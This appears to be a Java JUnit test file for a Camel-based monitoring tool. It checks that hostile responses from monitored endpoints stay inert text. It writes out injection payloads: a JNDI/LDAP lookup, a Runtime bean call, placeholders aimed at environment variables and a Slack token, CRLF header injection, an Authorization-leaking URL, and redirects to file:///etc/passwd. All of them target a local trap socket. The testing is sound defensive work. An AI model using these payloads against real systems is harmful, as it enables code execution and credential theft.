package io.vedette.target;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vedette.LocalServer;
import io.vedette.LocalServer.Answered;
import io.vedette.LocalServer.Asked;
import io.vedette.camel.run.Installation;
import io.vedette.camel.run.Standalone;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Endpoints that answer with expressions, placeholders and addresses, while the shipped routes tell all targets. */
class HostileTextTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    private Path folder;

    private FakeTargets targets;
    private ServerSocket trap;
    private LocalServer endpoint;

    @BeforeEach
    void start() throws IOException {
        targets = new FakeTargets();
        trap = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
        endpoint = new LocalServer(asked -> answer(asked, text()));
    }

    @AfterEach
    void stop() throws IOException {
        endpoint.close();
        trap.close();
        targets.close();
    }

    /** What somebody tries who knows Camel, Log4j and HTTP. */
    private String text() {
        String trapped = "127.0.0.1:" + trap.getLocalPort();
        return "${sys.user.home}|${env.PATH}|$simple{sys.user.home}|{{sys:user.home}}|{{env:PATH}}|{{vedette.slack.token}}"
                + "|${jndi:ldap://" + trapped + "/a}|${bean:type:java.lang.Runtime?method=getRuntime}"
                + "|${exchangeProperty.CamelToEndpoint}|#{1+1}|%s%n|http://" + trapped + "/b?x=${header.Authorization}"
                + "|\r\nX-Injected: yes\r\nCamelHttpUri: http://" + trapped + "/c\r\n\r\nGET /d HTTP/1.1";
    }

    private static Answered answer(Asked asked, String hostile) throws IOException {
        ObjectNode body = JSON.createObjectNode();
        if (asked.target().startsWith("/health")) {
            body.put("status", "DOWN");
            ObjectNode component = body.putObject("components").putObject(hostile);
            component.put("status", "DOWN").putObject("details").put("error", hostile);
        } else {
            body.put("status", hostile)
                    .put("process", hostile)
                    .put("server", hostile)
                    .put("reason", hostile)
                    .put("lastrun", Instant.now().toString())
                    .put("frequency", 60);
        }
        // What a header of an answer may hold, and what an expression in a Camel header would be.
        return Answered.of(200, body.toString())
                .with("Content-Type", "application/json")
                .with("CamelHttpUri", "http://127.0.0.1:1/${sys.user.home}")
                .with("X-Text", "${sys.user.home}");
    }

    @Test
    void comesThroughAsTextAndDoesNothingElse() throws Exception {
        Installation installation = targets.tell(Installation.shipped(folder))
                .task("hostile", "url=" + endpoint.url("/task"), "interval=300ms")
                .file(
                        "routes/more.yaml",
                        "- templatedRoute: { routeTemplateRef: health, routeId: components, parameters: [",
                        "  { name: url, value: '" + endpoint.url("/health") + "' },",
                        "  { name: interval, value: 300ms } ] }")
                .with("VEDETTE_GROUP_WINDOW", "0s");

        try (Standalone vedette = installation.start()) {
            await().untilAsserted(() -> assertThat(targets.all()).allSatisfy(target -> {
                assertThat(FakeTargets.count(target, "hostile")).isPositive();
                assertThat(FakeTargets.count(target, "components")).isPositive();
            }));
            for (String path : List.of("/", "/task/hostile", "/task/components")) {
                assertInert(installation.get(path).body());
                assertThat(installation.get(path).headers().map()).doesNotContainKey("x-injected");
            }
            assertInert(installation.get("/", "Accept", "text/html").body());
            vedette.service()
                    .targets()
                    .all()
                    .forEach(target ->
                            assertThat(target.failed()).as(target.name()).isZero());
        }

        JsonNode alert = alert("hostile");
        assertThat(alert.path("process").asText())
                .startsWith("${sys.user.home}|${env.PATH}|$simple{sys.user.home}|{{sys");
        for (LocalServer target : targets.all()) {
            assertThat(target.asked()).isNotEmpty().allSatisfy(asked -> {
                assertThat(asked.target()).doesNotContain("$", "{", "%7B", "user.home");
                assertThat(asked.headers().toString())
                        .doesNotContainIgnoringCase("injected")
                        .doesNotContain("CamelHttp");
                assertInert(asked.body());
            });
            assertThat(target.asked())
                    .extracting(Asked::target)
                    .containsOnly(target.asked().get(0).target());
        }
        assertThat(endpoint.asked()).extracting(Asked::target).containsOnly("/task", "/health");
        assertTrapIsEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://{{sys:user.home}}/",
                "ftp://127.0.0.1:TRAP/${sys.user.home}",
                "file:///etc/passwd",
                "direct:a",
                "ldap://127.0.0.1:TRAP/${jndi:ldap://127.0.0.1:TRAP/a}"
            })
    void leadsNowhereAsARedirect(String location) throws Exception {
        String trapped = location.replace("TRAP", String.valueOf(trap.getLocalPort()));
        endpoint.answer(asked -> Answered.redirect(302, trapped));
        Installation installation = targets.tell(Installation.shipped(folder))
                .task("hostile", "url=" + endpoint.url("/task"), "interval=300ms")
                .with("VEDETTE_GROUP_WINDOW", "0s");

        try (Standalone vedette = installation.start()) {
            await().until(() -> FakeTargets.count(targets.webhook, "hostile") > 0);
            assertInert(installation.get("/task/hostile").body());
        }

        targets.webhook.asked().forEach(asked -> assertInert(asked.body()));
        assertThat(endpoint.asked()).extracting(Asked::target).containsOnly("/task");
        assertTrapIsEmpty();
    }

    @Test
    void isFollowedAsItStandsAsARedirect() throws Exception {
        endpoint.answer(asked -> Answered.redirect(302, "${sys.user.home}"));
        Installation installation = targets.tell(Installation.shipped(folder))
                .task("hostile", "url=" + endpoint.url("/task"), "interval=300ms")
                .with("VEDETTE_GROUP_WINDOW", "0s");

        try (Standalone vedette = installation.start()) {
            await().until(() -> FakeTargets.count(targets.webhook, "hostile") > 0);
            assertInert(installation.get("/task/hostile").body());
        }

        assertThat(endpoint.asked()).extracting(Asked::target).containsOnly("/task", "/$%7Bsys.user.home%7D");
    }

    private JsonNode alert(String check) throws IOException {
        for (Asked asked : targets.webhook.asked()) {
            for (JsonNode alert : JSON.readTree(asked.body()).path("alerts")) {
                if (alert.path("check").asText().equals(check)) {
                    return alert;
                }
            }
        }
        throw new AssertionError("no alert about " + check);
    }

    private static void assertInert(String text) {
        assertThat(text)
                .doesNotContain(System.getProperty("user.home") + "|")
                .doesNotContain("|" + System.getenv("PATH"))
                .doesNotContain(FakeTargets.SLACK_TOKEN, "java.lang.Runtime@");
    }

    /** A connection would wait to be accepted. */
    private void assertTrapIsEmpty() throws IOException {
        trap.setSoTimeout(1);
        try {
            trap.accept().close();
        } catch (SocketTimeoutException nobodyCame) {
            return;
        }
        throw new AssertionError("somebody connected to an address that an endpoint named");
    }
}
